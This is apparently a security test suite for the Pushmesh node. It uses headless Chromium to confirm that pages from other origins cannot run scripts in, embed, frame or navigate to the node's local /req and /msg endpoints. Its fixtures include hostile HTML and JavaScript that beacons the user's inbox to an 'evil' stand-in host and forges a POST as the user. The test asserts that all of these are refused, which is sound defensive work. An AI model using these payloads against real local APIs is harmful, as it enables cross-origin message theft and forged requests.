import { strict as assert } from 'node:assert';
import { after, before, describe, it } from 'node:test';
import { chromium, type Browser, type BrowserContext, type Page, type Request } from 'playwright-core';
import type { PushmeshNode } from '../../src/node/pushmesh-node.js';
import { introduce, localUrl, startInProcessNode } from '../helpers/in-process-node.js';
import { startRecordingService, type RecordingService } from '../rpc/services.js';

const CHROMIUM = process.env['PUSHMESH_CHROMIUM'] ?? '/usr/bin/chromium';
const WAIT = 30_000;

/**
 * Issue 12 in a real browser: a page of another origin navigates to,
 * frames and embeds `/req/…` answers of a service that returns HTML with
 * a script (which tries a same-origin `POST /msg/x?to=…` and an inbox
 * read), and embeds `/msg/inbox`. Nothing runs in the local API's origin,
 * nothing is sent, no message is consumed, no receipt flips the sender's
 * status, and the remote service is not even called.
 */
describe('/req answers and /msg reads in headless Chromium, pages of other origins', { timeout: 180_000 }, () => {
  let a: PushmeshNode; // the user's node, whose local API the browser can reach
  let b: PushmeshNode; // exposes the service
  let c: PushmeshNode; // sent A a message with a receipt
  let service: RecordingService;
  let evil: RecordingService; // another origin's pages, and where the service's script would report to
  let browser: Browser;
  let context: BrowserContext;
  let receiptId: string;
  const consumed: string[] = [];
  const requests: Request[] = [];
  const cleanups: (() => unknown)[] = [];
  const scope = { after: (fn: () => unknown) => cleanups.push(fn) };
  after(async () => {
    await browser?.close();
    for (const fn of cleanups.reverse()) await fn();
  });

  const A = (): string => localUrl(a);
  const reqUrl = (): string => `${A()}/req/${b.identity.id}/welcome.html`;
  /** What the service answers: a page whose script, if it ever ran in A's origin, would send as A and read A's inbox. */
  const welcome = (): string => `<!doctype html><title>welcome</title><script>
window.__ran = true; document.title = 'ran';
new Image().src = ${JSON.stringify(evil.url)} + '/beacon?origin=' + encodeURIComponent(location.origin);
fetch('/msg/x?to=${b.identity.id}', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"pwned":1}' });
fetch('/msg/inbox').then((r) => r.text()).then((t) => { new Image().src = ${JSON.stringify(evil.url)} + '/beacon?inbox=' + encodeURIComponent(t); });
</script>`;
  /** Another origin's page: every way to embed or call /req and /msg without a navigation. */
  const embedPage = (): string => `<!doctype html><title>evil</title>
<img src="${reqUrl()}"><script src="${reqUrl()}"></script><iframe src="${reqUrl()}"></iframe>
<embed src="${reqUrl()}"><object data="${reqUrl()}"></object><link rel="stylesheet" href="${reqUrl()}">
<img src="${A()}/msg/inbox"><script src="${A()}/msg/inbox"></script><iframe src="${A()}/msg/inbox"></iframe><img src="${A()}/msg">
<script>
const es = new EventSource(${JSON.stringify(`${A()}/msg/inbox`)});
Promise.allSettled([
  fetch(${JSON.stringify(reqUrl())}, { mode: 'no-cors' }),
  fetch(${JSON.stringify(reqUrl())}, { mode: 'no-cors', method: 'POST', body: 'x' }),
  fetch(${JSON.stringify(`${A()}/msg/inbox`)}, { mode: 'no-cors' }),
  fetch(${JSON.stringify(`${A()}/msg/x?to=${b.identity.id}`)}, { mode: 'no-cors', method: 'POST', headers: { 'content-type': 'text/plain' }, body: 'x' }),
  new Promise((resolve) => { es.onerror = resolve; es.onmessage = resolve; }),
]).then(() => { es.close(); return fetch('/done', { method: 'POST' }); });
</script>`;
  const navPage = (target: string, how: 'link' | 'form'): string =>
    how === 'link'
      ? `<!doctype html><a id="go" href="${target}">go</a>`
      : `<!doctype html><form id="go" method="post" action="${target}" enctype="text/plain"><input name="a" value="b"></form>`;

  before(async () => {
    service = await startRecordingService(scope, (_req, res) => {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      res.end(welcome());
    });
    evil = await startRecordingService(scope, (req, res) => {
      const url = new URL(req.url ?? '/', 'http://x');
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      if (url.pathname === '/embed.html') return void res.end(embedPage());
      if (url.pathname === '/link.html') return void res.end(navPage(url.searchParams.get('to')!, 'link'));
      if (url.pathname === '/form.html') return void res.end(navPage(url.searchParams.get('to')!, 'form'));
      if (url.pathname === '/frame.html') return void res.end(`<!doctype html><iframe id="f" src="${url.searchParams.get('to')!}"></iframe>`);
      res.end('');
    });
    // A serves text/html inline when asked: the sandbox must hold even then.
    a = await startInProcessNode(scope, { reqInlineTypes: ['text/html'] });
    c = await startInProcessNode(scope);
    b = await startInProcessNode(scope, { service: { target: service.url, allow: [a.identity.id], timeoutMs: 5_000 } });
    await introduce(a, b);
    await introduce(c, a);
    a.bus.on('consumed', (ev) => consumed.push(ev.message.id));
    const sent = await fetch(`${localUrl(c)}/msg/inbox?to=${a.identity.id}&receipt=1`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"secret":1}' });
    receiptId = ((await sent.json()) as { id: string }).id;
    await new Promise<void>((resolve) => {
      if (a.bus.held('inbox', { after: 0 }).length > 0) return resolve();
      a.bus.on('published', (ev) => ev.message.topic === 'inbox' && resolve());
    });
    browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox', '--disable-gpu', '--disable-dev-shm-usage'], timeout: 60_000 });
    context = await browser.newContext({ acceptDownloads: true });
    context.setDefaultTimeout(WAIT);
    context.on('request', (r) => requests.push(r));
  }, { timeout: 90_000 });

  /** Nothing the service's script does ever happened, nothing was consumed, the receipt was not sent. */
  const nothingHappened = (): void => {
    const bad = requests.filter((r) => r.url().includes('/msg/x') && r.frame()?.url().startsWith(A()) === true);
    assert.deepEqual(bad.map((r) => r.url()), [], 'a request came from a document in A\'s origin');
    assert.deepEqual(evil.hits.filter((h) => h.url.startsWith('/beacon')), [], 'the service\'s script ran');
    assert.deepEqual(consumed, [], 'a message was handed out (and its receipt sent)');
    assert.notEqual(c.deliveryStatus(receiptId)?.state, 'delivered');
    assert.deepEqual(b.bus.held('x', { after: 0 }), [], 'a message was sent as A');
  };

  const newPage = async (): Promise<Page> => {
    const page = await context.newPage();
    page.on('dialog', (d) => void d.dismiss());
    return page;
  };

  for (const host of ['localhost', '127.0.0.1']) {
    it(`a page on ${host} (another ${host === 'localhost' ? 'site' : 'port: same-site'}) embeds /req answers and /msg reads: all refused, the service is not called`, async () => {
      const page = await newPage();
      const done = new Promise<void>((resolve) => evil.server.on('request', (r) => r.url === '/done' && resolve()));
      const forbidden: string[] = [];
      page.on('response', (r) => {
        if (r.url().startsWith(A()) && r.status() === 403) forbidden.push(r.url());
      });
      await page.goto(`http://${host}:${evil.port}/embed.html`, { waitUntil: 'load' });
      await done;
      assert.deepEqual(service.hits, [], 'the remote service was called through the mesh');
      assert.ok(forbidden.some((u) => u.includes('/req/')) && forbidden.some((u) => u.includes('/msg/inbox')), JSON.stringify(forbidden));
      nothingHappened();
      await page.close();
    });
  }

  /** The status of A's answer to a navigation `go` starts (A's refusals are attachments too, so the page may not change). */
  const navigationStatus = async (page: Page, go: () => Promise<unknown>): Promise<number> => {
    const answer = page.waitForResponse((r) => r.url().startsWith(A()));
    await go().catch(() => undefined); // "Download is starting": nothing is shown
    return (await answer).status();
  };

  it('navigations to /req and /msg (typed URL, link, form, iframe) are refused', async () => {
    /** A fresh page per navigation: a refused one (an attachment too) leaves the page mid-download. */
    const status = async (prepare: string | null, go: (page: Page) => Promise<unknown>): Promise<number> => {
      const page = await newPage();
      try {
        if (prepare) await page.goto(prepare);
        return await navigationStatus(page, () => go(page));
      } finally {
        await page.close();
      }
    };
    for (const target of [reqUrl(), `${A()}/msg/inbox`]) {
      const to = encodeURIComponent(target);
      assert.equal(await status(null, (p) => p.goto(target)), 403, `typed ${target}`);
      assert.equal(await status(`http://localhost:${evil.port}/link.html?to=${to}`, (p) => p.click('#go')), 403, `link to ${target}`);
      assert.equal(await status(`http://localhost:${evil.port}/form.html?to=${to}`, (p) => p.evaluate('document.getElementById("go").submit()')), 403, `form to ${target}`);
      assert.equal(await status(null, (p) => p.goto(`http://localhost:${evil.port}/frame.html?to=${to}`)), 403, `iframe of ${target}`);
    }
    assert.deepEqual(service.hits, []);
    nothingHappened();
  });

  it('a browser that sent no Fetch Metadata, Origin or Referer (simulated): the answer still cannot act in A\'s origin', async () => {
    // Requests to /req leave the browser without the headers the guard reads (as an old browser would send them);
    // A's real answer, with its real headers, is what the browser gets. With the inline header, the HTML is rendered — sandboxed.
    let inline = true;
    await context.route(`${A()}/req/**`, async (route) => {
      const response = await route.fetch({ headers: inline ? { 'x-pushmesh-disposition': 'inline' } : {} });
      await route.fulfill({ response });
    });
    const state = '[String(window.__ran), document.title, self.origin]';
    try {
      const page = await newPage();
      // Framed by another origin's page: the browser refuses to show it (frame-ancestors 'none').
      const framed = page.waitForResponse((r) => r.url() === reqUrl());
      await page.goto(`http://localhost:${evil.port}/frame.html?to=${encodeURIComponent(reqUrl())}`);
      assert.equal((await framed).status(), 200, 'the simulated browser request did reach the service');
      assert.ok(service.hits.length > 0);
      const frameUrls = page.frames().map((f) => f.url());
      assert.ok(!frameUrls.includes(reqUrl()), `the answer was shown in a frame: ${JSON.stringify(frameUrls)}`);

      // Opened as a page of its own (a navigation), inline: shown, in an opaque origin, and its script never ran.
      const top = await page.goto(reqUrl());
      assert.equal(top?.status(), 200);
      assert.match(top?.headers()['content-security-policy'] ?? '', /^sandbox;/);
      assert.deepEqual(await page.evaluate(state), ['undefined', 'welcome', 'null']);

      // Without the inline header (the default), a navigation downloads it rather than showing it.
      inline = false;
      const download = page.waitForEvent('download');
      await page.goto(reqUrl()).catch(() => undefined); // "Download is starting"
      assert.equal((await download).url(), reqUrl());
      nothingHappened();
      await page.close();
    } finally {
      await context.unroute(`${A()}/req/**`);
    }
  });

  it('the check could see a consumed message: the node\'s own read sends the receipt', async () => {
    const res = await fetch(`${A()}/msg/inbox`);
    assert.equal(res.status, 200);
    assert.deepEqual(consumed, [receiptId]);
    await new Promise<void>((resolve, reject) => {
      const t0 = Date.now();
      const check = (): void => {
        if (c.deliveryStatus(receiptId)?.state === 'delivered') return resolve();
        if (Date.now() - t0 > WAIT) return reject(new Error('no receipt'));
        setTimeout(check, 20);
      };
      check();
    });
  });
});
